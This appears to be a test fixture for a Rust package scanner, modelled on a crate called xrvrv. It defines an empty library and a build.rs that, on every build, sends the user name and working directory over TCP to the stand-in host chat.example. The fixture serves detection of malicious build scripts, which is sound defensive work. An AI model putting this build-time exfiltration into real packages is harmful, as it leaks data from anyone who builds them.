// The technique of xrvrv and its like (2023): a build script sends what it knows of the host.
//@ package: xrvrv
//@ target: lib src/lib.rs
//@ target: build build.rs
//@ finds: build-net warn xrvrv
//@ file: src/lib.rs
pub fn nothing() {}
//@ file: build.rs
use std::io::Write;
use std::net::TcpStream;
fn main() {
    let facts = format!("{:?} {:?}", std::env::var("USER"), std::env::current_dir());
    if let Ok(mut to) = TcpStream::connect("chat.example:443") {
        to.write_all(facts.as_bytes()).ok();
    }
}
